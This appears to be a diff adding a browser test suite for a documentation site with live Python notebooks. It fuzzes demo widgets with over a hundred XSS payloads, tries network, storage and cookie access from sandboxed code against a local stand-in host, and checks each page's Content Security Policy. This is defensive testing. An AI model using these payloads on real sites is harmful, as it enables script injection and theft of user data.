@@ -1,0 +1,318 @@
+"""What readers type never runs, and code that they edit reaches nothing but its own worker."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from tests.live.living import (
+    CHAPTERS,
+    GALLERY,
+    Notebook,
+    alive,
+    cell,
+    control,
+    python,
+    result,
+    text,
+)
+
+pytestmark = pytest.mark.browser
+
+TAGS = ("script", "img", "svg", "iframe", "object", "details", "base")
+EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onbegin")
+OPENERS = ("", "'", '"', "`", ">", '">', "</p>", "</pre>", "-->", "]]>", "</style>", "</textarea>")
+RUN = "window.pwned=1"
+HOSTILE = [
+    *(f"{opener}<script>{RUN}</script>" for opener in OPENERS),
+    *(f"{opener}<img src=x onerror={RUN}>" for opener in OPENERS),
+    *(f"<{tag} {event}={RUN} src=x autofocus open>" for tag in TAGS for event in EVENTS),
+    *(f"<{tag} href=javascript:{RUN} xlink:href=javascript:{RUN} src=javascript:{RUN}>" for tag in TAGS),
+    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+    f"<svg><script href=data:,{RUN} />",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<style>@import 'javascript:{RUN}';*{{background:url(javascript:{RUN})}}</style>",
+    f"<form action=javascript:{RUN}><button>x</button></form>",
+    f"<body onpageshow={RUN}>", f"<template><img src=x onerror={RUN}></template>",
+    f"javascript:{RUN}", f"&lt;img src=x onerror={RUN}&gt;", f"&#60;img src=x onerror={RUN}&#62;",
+    f"\\u003cimg src=x onerror={RUN}\\u003e", f"%3Cimg%20src=x%20onerror={RUN}%3E",
+    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"$$\\href{{javascript:{RUN}}}{{x}}$$",
+    f"\\(\\unicode{{<img src=x onerror={RUN}>}}\\)", f"$\\text{{<img src=x onerror={RUN}>}}$",
+    f"[x](javascript:{RUN})", f"![x](x 'onerror={RUN}')", f"＜img src=x onerror={RUN}＞",
+    f"<img\tsrc=x\tonerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<ImG sRc=x OnErRoR={RUN}>",
+    f"<<img src=x onerror={RUN}>>", f"<img src=x onerror={RUN}//", f"\u202e<img src=x onerror={RUN}>",
+    "'; DROP TABLE orders; --", "{% raw %}{{ 7*7 }}", "<!-- <kefu-demo> -->", "__import__('os')",
+    "\ufffe\U0001f980",
+]  # fmt: skip
+COUNT = """() => {
+    const all = {};
+    for (const e of document.querySelectorAll('*')) all[e.tagName] = (all[e.tagName] ?? 0) + 1;
+    return all;
+}"""
+TEXT_CONTROLS = ("Text", "Textarea", "Combobox", "TagsInput", "Password")
+BOOKS = {name: Notebook(name) for name in (GALLERY, *CHAPTERS)}
+
+
+def fields() -> list[tuple[str, int, int, str]]:
+    """Return every text control of every demo: page, cell, place in the demo, class."""
+    found = []
+    for name, book in BOOKS.items():
+        for one in book.cells:
+            if one.demo:
+                twin, _ = book.run(one)
+                for number, widget in enumerate(twin.controls.values()):
+                    if type(widget).__name__ in TEXT_CONTROLS:
+                        found.append((name, one.index, number, type(widget).__name__))
+    return found
+
+
+def typed(place: Locator, kind: str, value: str) -> str:
+    """Put a text into a control as its reader would; return what the control then holds."""
+    if kind == "TagsInput":
+        place.click()
+    field = place.locator("input, textarea").first
+    field.fill(value)
+    if kind in ("Combobox", "TagsInput"):
+        field.press("Enter")
+    return field.input_value()
+
+
+def test_a_hundred_hostile_strings_and_more_are_tried():
+    assert len(set(HOSTILE)) >= 100
+    assert {kind for _, _, _, kind in fields()} >= {"Text", "Textarea", "Combobox", "TagsInput"}
+
+
+@pytest.mark.parametrize(("name", "index", "number", "kind"), fields())
+def test_text_typed_in_a_demo_stays_text(opened, name, index, number, kind):
+    page = opened(name)
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    one = next(c for c in BOOKS[name].cells if c.index == index)
+    twin, _ = BOOKS[name].run(one)
+    widget = list(twin.controls.values())[number]
+    place = cell(page, index)
+    before = page.evaluate(COUNT)
+    for value in (*HOSTILE, "完"):
+        held = typed(control(place, number), kind, value)
+        if kind != "TagsInput":  # which takes none that is not on its list
+            assert held == value
+            widget.value = held
+        expect(result(place)).to_have_text(text(twin.result()))
+    assert page.evaluate(COUNT) == before
+    assert page.evaluate("window.pwned") is None
+    assert dialogs == []
+
+
+@pytest.mark.parametrize("kind", ["IntSlider", "FloatRangeSlider", "SelectionSlider", "IntText"])
+def test_number_controls_take_no_markup(opened, kind):
+    page = opened(GALLERY)
+    book = BOOKS[GALLERY]
+    place = cell(page, book.with_class(kind).index)
+    before = page.evaluate(COUNT)
+    field = control(place).locator(".widget-readout, input").first
+    for value in (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", "1e", "--", "𝟙"):
+        field.click()
+        field.press("ControlOrMeta+a")
+        page.keyboard.insert_text(value)
+        field.press("Enter")
+        page.keyboard.press("Tab")
+    expect(result(place)).not_to_contain_text("<")
+    assert page.evaluate("window.pwned") is None
+    after = page.evaluate(
+        COUNT
+    )  # a field that is edited in place keeps the browser's own <div>, <br>
+    assert {**after, "DIV": 0, "BR": 0} == {**before, "DIV": 0, "BR": 0}
+
+
+# edited code
+
+
+@pytest.fixture(scope="module")
+def stranger() -> Iterator[tuple[str, list[str]]]:
+    """Return another host's address and the list of what it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.end_headers()
+            self.wfile.write(b"0")
+
+        do_POST = do_OPTIONS = do_HEAD = do_GET
+
+        def log_message(self, format: str, *arguments: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+# What a curious reader may try; each ends in an error, at once or in the promise that it gives.
+TRIES = {
+    "fetch": "await js.fetch('http://HOST/fetch')",
+    "fetch without cors": "await js.fetch('http://HOST/opaque', js.JSON.parse('{\"mode\": \"no-cors\"}'))",
+    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch('http://HOST/pyfetch')",
+    "open_url": "from pyodide.http import open_url\nopen_url('http://HOST/open')",
+    "urllib": "from urllib.request import urlopen\nurlopen('http://HOST/urllib', timeout=3)",
+    "socket": "import socket\ns = socket.create_connection('HOST'.split(':'), timeout=3)\n"
+    "s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\nassert s.recv(9)",
+    "XMLHttpRequest": "x = js.XMLHttpRequest.new()\nx.open('GET', 'http://HOST/xhr', False)\nx.send()",
+    "WebSocket": "s = js.WebSocket.new('ws://HOST/socket')\nawait opened(s)",
+    "EventSource": "s = js.EventSource.new('http://HOST/events')\nawait opened(s)",
+    "WebTransport": "await js.WebTransport.new('https://HOST/transport').ready",
+    "import": "from pyodide.code import run_js\nawait run_js('import(\"http://HOST/module.js\")')",
+    "importScripts": "js.importScripts('http://HOST/script.js')",
+    "eval": "js.eval('1')",
+    "Function": "js.Function.new('return 1')()",
+    "timer of text": "assert js.setTimeout('1', 0) and False",
+    "caches": "await real.caches.keys()",
+    "CacheStorage": "await js.CacheStorage.prototype.keys.call(real.caches)",
+    "indexedDB": "real.indexedDB.open('kept')",
+    "prototype": "js.Object.getPrototypeOf(real).caches.keys()",
+    "files": "await real.navigator.storage.getDirectory()",
+    "quota": "await real.navigator.storage.estimate()",
+    "buckets": "await real.navigator.storageBuckets.open('kept')",
+    "locks": "await real.navigator.locks.query()",
+    "channel": "real.BroadcastChannel.new('live')",
+    "Worker": "real.Worker.new('http://HOST/worker.js')",
+    "worker of the site": "real.Worker.new(js.location.origin + '/_static/doctools.js')",
+    "SharedWorker": "real.SharedWorker.new('http://HOST/shared.js')",
+    "file system": "real.webkitRequestFileSystemSync(0, 1)",
+    "localStorage": "real.localStorage.getItem('theme')",
+    "document": "real.document.cookie",
+    "window": "real.window.location",
+    "cookies": "await real.cookieStore.getAll()",
+}
+ASK = """
+import asyncio, json, js, builtins
+from pyodide.code import eval_code_async
+from pyodide.ffi import create_once_callable, create_proxy
+
+async def opened(thing):
+    done = asyncio.Future()
+    thing.onopen = create_once_callable(lambda _: done.set_result('open'))
+    thing.onerror = create_once_callable(lambda _: done.set_exception(OSError('closed')))
+    await asyncio.wait_for(done, 5)
+
+async def worker():  # Pyodide's js is a copy; a timer's `this` is the worker itself
+    found = asyncio.Future()
+    js.setTimeout(create_proxy(found.set_result, capture_this=True), 0)
+    return await found
+
+async def attempt(name, code):
+    try:
+        names = {"js": js, "opened": opened, "real": await worker()}
+        await asyncio.wait_for(eval_code_async(code, names), 8)
+        came = "reached"
+    except BaseException as error:
+        came = f'{type(error).__name__}: {error}'[:99]
+    builtins.tried[name] = came
+
+builtins.tried = {}
+for name, code in json.loads(TRIES).items():
+    asyncio.ensure_future(attempt(name, code))
+"""
+
+
+def test_edited_code_reaches_no_other_host_and_no_store(visit, address, stranger):
+    host, asked = stranger
+    page = visit()
+    requests: list[str] = []
+    page.context.on("request", lambda request: requests.append(request.url))
+    page.goto(f"{address}{GALLERY}.html")
+    alive(page)
+    tries = {name: code.replace("HOST", host) for name, code in TRIES.items()}
+    python(page, ASK.replace("TRIES", repr(json.dumps(tries))))
+    for _ in range(100):
+        told = json.loads(python(page, "import builtins, json\nprint(json.dumps(builtins.tried))"))
+        if len(told) == len(tries):
+            break
+        page.wait_for_timeout(100)
+    assert [name for name in tries if told.get(name, "reached") == "reached"] == []
+    assert asked == []
+    foreign = [url for url in requests if not url.startswith((address, "data:", "blob:"))]
+    assert [url for url in foreign if host not in url] == []
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<img src='http://HOST/img'>",
+        "<link rel=stylesheet href='http://HOST/css'>",
+        "<iframe src='http://HOST/frame'></iframe>",
+        "<video src='http://HOST/video'></video>",
+        "<object data='http://HOST/object'></object>",
+        "<style>@import 'http://HOST/import';</style>",
+        "<div style='background:url(http://HOST/background)'>x</div>",
+        "<svg><image href='http://HOST/image' /></svg>",
+        "<script src='http://HOST/script'></script>",
+        "<base href='http://HOST/'><img src='base'>",
+        "<meta http-equiv='refresh' content='0;url=http://HOST/refresh'>",
+    ],
+)
+@pytest.mark.parametrize("way", ["IPython.display.HTML", "ipywidgets.HTML"])
+def test_markup_that_edited_code_shows_asks_no_other_host(opened, stranger, markup, way):
+    host, asked = stranger
+    page = opened(GALLERY)
+    where = page.url
+    module, name = way.rsplit(".", 1)
+    html = markup.replace("HOST", host)
+    python(page, f"from {module} import {name} as H\nH({html!r})")
+    page.wait_for_timeout(150)
+    assert asked == []
+    assert page.url == where
+
+
+# the policy
+
+
+def policy_of(page: Page) -> str:
+    found: str = (
+        page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content") or ""
+    )
+    return found
+
+
+def test_every_page_carries_the_policy_and_keeps_to_it(visit, address, site):
+    page = visit()
+    page.add_init_script(
+        "window.broken = []; addEventListener('securitypolicyviolation', e => "
+        "window.broken.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`), true)"
+    )
+    said: list[str] = []
+    page.on("console", lambda message: said.append(message.text))
+    names = sorted(
+        p.relative_to(site).as_posix()
+        for p in site.rglob("*.html")
+        if p.relative_to(site).parts[0] not in ("_static", "lite")
+    )
+    assert names
+    for name in names:
+        if name == "index.html":
+            continue  # leads to the cover at once
+        page.goto(address + name)
+        if page.locator("#live-cells").count():
+            alive(page)
+        policy = policy_of(page)
+        assert policy.startswith("default-src 'self'; ")
+        assert "'unsafe-eval'" not in policy
+        assert "http:" not in policy
+        assert "*" not in policy
+        assert page.evaluate("window.broken") == []
+    assert [text for text in said if "Content Security Policy" in text] == []
